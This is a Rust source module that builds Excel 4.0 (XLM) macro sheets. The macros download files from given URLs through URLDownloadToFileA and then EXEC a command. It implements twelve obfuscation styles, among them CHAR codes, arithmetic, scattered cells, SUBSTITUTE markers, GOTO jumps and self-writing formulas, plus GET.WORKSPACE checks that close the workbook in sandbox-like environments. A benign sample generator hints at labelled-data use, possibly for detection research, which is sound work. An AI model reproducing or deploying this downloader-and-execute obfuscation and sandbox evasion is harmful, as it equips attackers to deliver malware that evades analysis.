//! Ways to write the steps of an XLM macro.

use super::formula::{
    ALERT, CALL, CHAR, CLOSE, CONCATENATE, EXEC, FORMULA, Formula, GET_WORKSPACE, GOTO, HALT, IF, LEN, MID,
    NEXT, RETURN, RUN, SET_VALUE, SUBSTITUTE, WHILE,
};
use super::{Chance, Held, Place, Sheet, Shown};
use std::collections::BTreeMap;

/// How texts and steps are hidden.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, serde::Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Style {
    /// As they are.
    XlmPlain,
    /// `CHAR(104)&CHAR(116)`.
    XlmCharacters,
    /// Pieces in the cells of another sheet.
    XlmCells,
    /// Formulas that write the formulas that run.
    XlmSelfModifying,
    /// Steps out of order, `GOTO` between them.
    XlmGoto,
    /// `MID` of a cell with an alphabet.
    XlmAlphabet,
    /// Cells filled by `SET.VALUE` and joined later.
    XlmSetValue,
    /// `RUN`, `IF` and `RETURN`.
    XlmBranches,
    /// `CHAR(140-36)`.
    XlmArithmetic,
    /// Markers that `SUBSTITUTE` takes out.
    XlmSubstitute,
    /// A `WHILE` that takes every second character of a cell.
    XlmWhile,
    /// The way out when `GET.WORKSPACE` says that nobody sits there.
    XlmConditions,
}

impl Style {
    /// All of them.
    pub const ALL: [Self; 12] = [
        Self::XlmPlain,
        Self::XlmCharacters,
        Self::XlmCells,
        Self::XlmSelfModifying,
        Self::XlmGoto,
        Self::XlmAlphabet,
        Self::XlmSetValue,
        Self::XlmBranches,
        Self::XlmArithmetic,
        Self::XlmSubstitute,
        Self::XlmWhile,
        Self::XlmConditions,
    ];
}

/// The sheets of formulas and where the first starts.
pub(super) struct Written {
    pub(super) sheets: Vec<Sheet>,
    pub(super) start: Place,
}

/// Cells while they are written.
struct Pen<'a> {
    style: Style,
    cells: BTreeMap<Place, Held>,
    /// Cells of the second sheet.
    others: BTreeMap<Place, Held>,
    /// A cell that holds every character we need.
    alphabet: Option<(Place, String)>,
    /// Steps that have to come before the one that uses their cells.
    before: Vec<Formula>,
    chance: &'a mut Chance,
}

pub(super) fn sheets(
    style: Style,
    shown: Shown,
    urls: &[String],
    library: &str,
    command: &str,
    chance: &mut Chance,
) -> Written {
    let start = (chance.between(2, 40) as u16, chance.between(0, 20) as u16);
    let name = format!("{}{}", chance.identifier(), chance.below(10));
    let other = format!("{}{}", chance.identifier(), chance.between(10, 99));
    let mut pen = Pen {
        style,
        cells: BTreeMap::new(),
        others: BTreeMap::new(),
        alphabet: None,
        before: Vec::new(),
        chance,
    };
    let steps = pen.steps(urls, library, command);
    match style {
        Style::XlmGoto => pen.scattered(start, steps),
        Style::XlmBranches => pen.branches(start, steps),
        Style::XlmSelfModifying => pen.written_later(start, steps),
        Style::XlmConditions => {
            let steps = pen.guarded(steps);
            pen.down(start, steps);
        }
        _ => pen.down(start, steps),
    }
    let Pen { cells, others, .. } = pen;
    let mut sheets = vec![Sheet { name, shown, cells }];
    if !others.is_empty() {
        sheets.push(Sheet { name: other, shown, cells: others });
    }
    Written { sheets, start }
}

/// What offices wrote in 1993: a question, a value, a way out.
pub(super) fn honest(shown: Shown, chance: &mut Chance) -> Sheet {
    let value = (1, 3);
    let steps = [
        Formula::call(&SET_VALUE, [Formula::Reference(value), Formula::Number(chance.between(1, 99) as u16)]),
        Formula::call(
            &IF,
            [
                Formula::binary('>', Formula::Cell(None, value), Formula::Number(50)),
                Formula::call(&ALERT, [Formula::Text("Over the limit".to_owned())]),
                Formula::call(&ALERT, [Formula::Text("OK".to_owned())]),
            ],
        ),
        Formula::call(&RETURN, []),
    ];
    let cells = (0..).zip(steps).map(|(row, step)| ((row, 0), Held::Formula(step))).collect();
    Sheet { name: "Macro1".to_owned(), shown, cells }
}

impl Pen<'_> {
    /// What is done: each address fetched, then the line of text.
    fn steps(&mut self, urls: &[String], library: &str, command: &str) -> Vec<Formula> {
        let mut steps = Vec::new();
        for url in urls {
            let arguments = [
                self.text("urlmon"),
                self.text("URLDownloadToFileA"),
                Formula::Text("JJCCBB".to_owned()),
                Formula::Number(0),
                self.text(url),
                self.text(library),
                Formula::Number(0),
                Formula::Number(0),
            ];
            steps.append(&mut self.before);
            steps.push(Formula::call(&CALL, arguments));
        }
        let command = self.text(command);
        steps.append(&mut self.before);
        steps.push(Formula::call(&EXEC, [command]));
        steps.push(Formula::call(&HALT, []));
        steps
    }

    /// A text, hidden.
    fn text(&mut self, text: &str) -> Formula {
        match self.style {
            Style::XlmCharacters => {
                let parts = text.chars().map(|c| Formula::call(&CHAR, [Formula::Number(c as u16)]));
                Formula::joined(parts)
            }
            Style::XlmCells => self.in_cells(text),
            Style::XlmAlphabet => self.spelled(text),
            Style::XlmSetValue => self.set(text),
            Style::XlmArithmetic => {
                let sums = text.chars().map(|c| {
                    let shift = self.chance.between(3, 90) as u16;
                    let sum = match self.chance.below(2) {
                        0 => Formula::binary('-', Formula::Number(c as u16 + shift), Formula::Number(shift)),
                        _ => Formula::binary('+', Formula::Number(c as u16 - 20), Formula::Number(20)),
                    };
                    Formula::call(&CHAR, [sum])
                });
                Formula::joined(sums.collect::<Vec<_>>())
            }
            Style::XlmSubstitute => {
                let mark = format!("{}#", self.chance.below(10));
                let marked = self.chance.cut(text, 3, 9).join(&mark);
                let texts = [marked, mark, String::new()].map(Formula::Text);
                Formula::call(&SUBSTITUTE, texts)
            }
            Style::XlmWhile => self.every_second(text),
            Style::XlmGoto | Style::XlmBranches | Style::XlmConditions => {
                let pieces = self.chance.cut(text, 3, 9);
                Formula::joined(pieces.into_iter().map(Formula::Text))
            }
            _ => Formula::Text(text.to_owned()),
        }
    }

    /// A cell of that map that is still free.
    fn free(&mut self, taken: &BTreeMap<Place, Held>) -> Place {
        loop {
            let place = (self.chance.between(100, 900) as u16, self.chance.between(0, 60) as u16);
            if !taken.contains_key(&place) {
                return place;
            }
        }
    }

    fn in_cells(&mut self, text: &str) -> Formula {
        let mut parts = Vec::new();
        for piece in self.chance.cut(text, 2, 7) {
            let taken = std::mem::take(&mut self.others);
            let place = self.free(&taken);
            self.others = taken;
            self.others.insert(place, Held::Text(piece));
            parts.push(Formula::Cell(Some(1), place));
        }
        Formula::joined(parts)
    }

    fn spelled(&mut self, text: &str) -> Formula {
        let (place, alphabet) = match self.alphabet.clone() {
            Some(known) => known,
            None => {
                let mut characters: Vec<char> = (' '..='~').filter(|c| *c != '"').collect();
                for last in (1..characters.len()).rev() {
                    characters.swap(last, self.chance.below(last + 1));
                }
                let alphabet: String = characters.into_iter().collect();
                let taken = BTreeMap::new();
                let place = self.free(&taken);
                self.cells.insert(place, Held::Text(alphabet.clone()));
                self.alphabet.insert((place, alphabet)).clone()
            }
        };
        let letters = text.chars().filter_map(|c| alphabet.chars().position(|known| known == c)).map(|at| {
            let arguments = [Formula::Cell(None, place), Formula::Number(at as u16 + 1), Formula::Number(1)];
            Formula::call(&MID, arguments)
        });
        let letters: Vec<Formula> = letters.collect();
        // A function takes at most 30 arguments.
        let words = letters.chunks(30).map(|chunk| Formula::call(&CONCATENATE, chunk.to_vec()));
        Formula::joined(words.collect::<Vec<_>>())
    }

    fn set(&mut self, text: &str) -> Formula {
        let mut parts = Vec::new();
        for piece in self.chance.cut(text, 4, 11) {
            let taken = std::mem::take(&mut self.cells);
            let place = self.free(&taken);
            self.cells = taken;
            // Kept free for this one.
            self.cells.insert(place, Held::Text(String::new()));
            self.before.push(Formula::call(&SET_VALUE, [Formula::Reference(place), Formula::Text(piece)]));
            parts.push(Formula::Cell(None, place));
        }
        Formula::joined(parts)
    }

    /// A cell with junk between the characters, a counter, and a loop that takes them out; told by the cell that is
    /// filled.
    fn every_second(&mut self, text: &str) -> Formula {
        let [held, counter, result] = [(); 3].map(|()| {
            let taken = std::mem::take(&mut self.cells);
            let place = self.free(&taken);
            self.cells = taken;
            self.cells.insert(place, Held::Text(String::new()));
            place
        });
        let mixed: String =
            text.chars().flat_map(|c| [c, char::from(b'a' + self.chance.below(26) as u8)]).collect();
        self.cells.insert(held, Held::Text(mixed));
        let take = Formula::call(
            &MID,
            [Formula::Cell(None, held), Formula::Cell(None, counter), Formula::Number(1)],
        );
        let set = |place, value| Formula::call(&SET_VALUE, [Formula::Reference(place), value]);
        let on = Formula::binary('+', Formula::Cell(None, counter), Formula::Number(2));
        let length = Formula::call(&LEN, [Formula::Cell(None, held)]);
        self.before.extend([
            set(counter, Formula::Number(1)),
            set(result, Formula::Text(String::new())),
            Formula::call(&WHILE, [Formula::binary('<', Formula::Cell(None, counter), length)]),
            set(result, Formula::binary('&', Formula::Cell(None, result), take)),
            set(counter, on),
            Formula::call(&NEXT, []),
        ]);
        Formula::Cell(None, result)
    }

    /// Looks at the mouse, the sound and the width of the screen first.
    fn guarded(&mut self, steps: Vec<Formula>) -> Vec<Formula> {
        let ask = |number| Formula::call(&GET_WORKSPACE, [Formula::Number(number)]);
        let leave = || Formula::call(&CLOSE, [Formula::Number(0)]);
        let go_on = || Formula::Number(1);
        let width = self.chance.between(600, 800) as u16;
        let guards = [
            Formula::call(&IF, [ask(19), go_on(), leave()]),
            Formula::call(&IF, [ask(42), go_on(), leave()]),
            Formula::call(&IF, [Formula::binary('<', ask(13), Formula::Number(width)), leave(), go_on()]),
        ];
        guards.into_iter().chain(steps).collect()
    }

    /// One below the other.
    fn down(&mut self, (row, column): Place, steps: Vec<Formula>) {
        self.cells.retain(|_, held| *held != Held::Text(String::new()));
        for (at, step) in (row..).zip(steps) {
            self.cells.insert((at, column), Held::Formula(step));
        }
    }

    /// Each somewhere else, with a jump to the next below it.
    fn scattered(&mut self, start: Place, steps: Vec<Formula>) {
        let mut at = start;
        let count = steps.len();
        for (number, step) in steps.into_iter().enumerate() {
            self.cells.insert(at, Held::Formula(step));
            if number + 1 < count {
                // Rows lie apart, so that no jump is written over.
                let next = (at.0 + 3 + self.chance.below(9) as u16, self.chance.below(40) as u16);
                let jump = Formula::call(&GOTO, [Formula::Reference(next)]);
                self.cells.insert((at.0 + 1, at.1), Held::Formula(jump));
                at = next;
            }
        }
    }

    /// Steps in a part that is run and returns; a condition that always holds goes around an alarm.
    fn branches(&mut self, (row, column): Place, mut steps: Vec<Formula>) {
        let part = (row + 60, column + 3);
        let last = steps.split_off(steps.len().saturating_sub(2));
        let (small, large) = (self.chance.between(1, 9) as u16, self.chance.between(10, 99) as u16);
        let after = (row + 4, column);
        let warning = Formula::Text(self.chance.word(5, 12));
        let head = [
            Formula::call(&RUN, [Formula::Reference(part)]),
            Formula::call(
                &IF,
                [
                    Formula::binary('>', Formula::Number(large), Formula::Number(small)),
                    Formula::call(&GOTO, [Formula::Reference(after)]),
                    Formula::call(&ALERT, [warning.clone()]),
                ],
            ),
            Formula::call(&ALERT, [warning]),
            Formula::call(&HALT, []),
        ];
        for (at, step) in (row..).zip(head.into_iter().chain(last)) {
            self.cells.insert((at, column), Held::Formula(step));
        }
        steps.push(Formula::call(&RETURN, []));
        for (at, step) in (part.0..).zip(steps) {
            self.cells.insert((at, part.1), Held::Formula(step));
        }
    }

    /// `FORMULA` writes each step into the cells that follow.
    fn written_later(&mut self, (row, column): Place, steps: Vec<Formula>) {
        let count = steps.len() as u16;
        for (number, step) in (0..).zip(steps) {
            let text = format!("={}", step.text(&[]));
            let pieces = self.chance.cut(&text, 5, 40).into_iter().map(Formula::Text);
            let target = Formula::Reference((row + count + number, column));
            let write = Formula::call(&FORMULA, [Formula::joined(pieces.collect::<Vec<_>>()), target]);
            self.cells.insert((row + number, column), Held::Formula(write));
        }
    }
}
